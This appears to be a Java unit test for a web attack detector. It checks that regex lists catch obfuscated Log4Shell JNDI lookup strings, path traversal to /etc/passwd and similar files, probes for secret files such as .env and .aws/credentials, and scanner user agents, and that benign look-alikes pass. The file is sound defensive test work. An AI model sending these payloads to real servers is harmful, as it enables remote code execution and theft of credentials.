package io.gatehouse.detector.hub;

import static org.assertj.core.api.Assertions.assertThat;

import io.gatehouse.detector.regex.SafePattern;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What our own lists find, and what they leave alone. */
class BuiltInListsTest {

  private static boolean finds(String list, String text) throws Exception {
    for (String line : lines(list)) {
      if (!line.startsWith("#") && SafePattern.re2(line).find(text)) {
        return true;
      }
    }
    return false;
  }

  private static List<String> lines(String list) throws Exception {
    String resource = "builtin/data/gatehouse_" + list + ".regex";
    try (InputStream in = DataFiles.class.getResourceAsStream(resource)) {
      assertThat(in).as(resource).isNotNull();
      return new String(in.readAllBytes(), StandardCharsets.UTF_8).lines().toList();
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/?x=${jndi:ldap://192.0.2.1/a}",
        "/${jndi:rmi://e}",
        "/%24%7Bjndi:ldap://192.0.2.1/a%7D",
        "/%2524%257Bjndi%253Aldap%253A%252F%252Fe%257D",
        "/%24%7b%6a%6e%64%69%3aldap",
        "/%zz%24%7Bjndi:dns://e%7D",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://e/a}",
        "${${lower:j}${upper:n}${lower:d}${upper:i}:ldap://e}",
        "${${lower:${lower:jndi}}:${lower:rmi}://e/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//e/a}",
        "${jndi${123%25ff:-${123%25ff:-:}}ldap://e/x}",
        "${jnd${upper:\u0131}:ldap://e/a}",
        "/%24%7Bjnd%24%7Bupper%3A%C4%B1%7D%3Aldap%3A%2F%2Fe%7D",
        "\\x24{jndi:ldap://e}",
        "\\u0024\\u007bjndi:ldap://e}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://e}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://e}",
        "${j${::-n}di:ldap://e}",
        "${::-${::-$${::-j}}}ndi:ldap://e",
        "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://e}",
        "${JNDI:LDAP://E}",
        "${base64:JHtqbmRpOmxkYXA6Ly9lL2F9}",
        "Mozilla/5.0 ${jndi:ldap://e/${hostName}}",
        "http://${jndi:ldap://e/a}.example/"
      })
  void log4shell_is_found_in_its_disguises(String text) throws Exception {
    assertThat(finds("log4shell", text)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/api/${id}",
        "/api/%24%7Bitem.index%7D?x=1",
        "/docs/jndi:intro",
        "/search?q=jndi",
        "/a?x=${user.name}&y=${user.kind:1}",
        "/price?max=$100{USD}",
        "/t?f=%7Bjndi%3A1%7D",
        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
      })
  void a_page_with_a_broken_template_is_no_attack(String text) throws Exception {
    assertThat(finds("log4shell", text)).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/../../../etc/passwd",
        "/%2e%2e/%2e%2e/x",
        "/..%2f..%2f..%2f",
        "/%252e%252e%252f%252e%252e%252f",
        "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
        "/..%c0%af..%c0%af",
        "/..\\..\\windows",
        "/static/..;/manager/html",
        "/....//....//....//etc"
      })
  void a_way_up_is_found_in_its_spellings(String path) throws Exception {
    assertThat(finds("path_traversal", path)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(strings = {"/a..b/c", "/file...name", "/docs/../x", "/?next=../home", "/v1...v2/"})
  void a_few_dots_are_none(String path) throws Exception {
    assertThat(finds("path_traversal", path)).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/../etc/passwd",
        "/x?f=..%2f..%2fetc%2fpasswd",
        "/x?f=../../../../proc/self/environ",
        "/x?f=..\\..\\windows\\win.ini",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"
      })
  void what_lies_at_its_end_makes_it_certain(String path) throws Exception {
    assertThat(finds("path_traversal_target", path)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/.env",
        "/api/.env.production",
        "/.git/config",
        "/.aws/credentials",
        "/wp-config.php.bak",
        "/wp-config.php~",
        "/backup.sql.gz",
        "/phpinfo.php",
        "/actuator/heapdump"
      })
  void files_with_secrets_are_known(String path) throws Exception {
    assertThat(finds("sensitive_files", path)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/environment",
        "/docs/.environment/",
        "/github/config",
        "/news/backup-your-data",
        "/wp-config.php",
        "/actuator/health",
        "/downloads/site.zip.html"
      })
  void pages_that_only_sound_like_it_are_not(String path) throws Exception {
    assertThat(finds("sensitive_files", path)).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "sqlmap/1.8#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "Fuzz Faster U Fool v2.1.0",
        "gobuster/3.6",
        "Mozilla/5.0 zgrab/0.x"
      })
  void scanners_that_say_their_name_are_known(String agent) throws Exception {
    assertThat(finds("bad_user_agents", agent)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/140.0 Safari/537.36",
        "curl/8.9.1",
        "python-requests/2.32",
        "Go-http-client/2.0",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "",
        "-"
      })
  void browsers_libraries_and_search_engines_are_left_alone(String agent) throws Exception {
    assertThat(finds("bad_user_agents", agent)).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"log4shell", "path_traversal", "path_traversal_target", "sensitive_files"})
  void hostile_texts_are_searched_in_bounded_time(String list) throws Exception {
    for (String piece : List.of("${", "${x:", "${${::-", "../", "%25", "..%2f", "\\x24{j")) {
      assertThat(finds(list, piece.repeat(2000) + "\n")).isIn(true, false);
    }
  }
}
